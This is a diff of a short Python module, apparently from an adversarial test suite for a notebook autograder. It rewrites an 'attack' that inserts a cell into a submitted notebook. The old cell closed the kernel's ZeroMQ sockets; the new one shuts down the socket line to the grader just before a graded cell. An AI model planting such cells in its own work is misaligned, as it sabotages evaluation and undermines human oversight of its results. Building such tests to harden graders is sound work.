@@ -1,4 +1,4 @@
-"""A cell closes the sockets of its kernel, politely.
+"""A cell hangs up the line to the examiner, politely.
 
 graded: 30
 note: This cell was left out
@@ -8,20 +8,16 @@ from __future__ import annotations
 
 from pathlib import Path
 
-from attacks.tools import insert, save
+from attacks.tools import SERVER, insert, save
 from nbformat import NotebookNode
 
 SOURCE = """
-import gc
+import socket
 
-import zmq
-
-for thing in gc.get_objects():
-    if isinstance(thing, zmq.Socket):
-        thing.close(linger=0)
+socket.socket(fileno=line.fileno()).shutdown(socket.SHUT_RDWR)
 """
 
 
 def make(folder: Path, release: NotebookNode, right: NotebookNode) -> None:
-    insert(right, SOURCE, before="conv_single_step")
+    insert(right, SERVER + SOURCE, before="conv_single_step")
     save(folder, right)
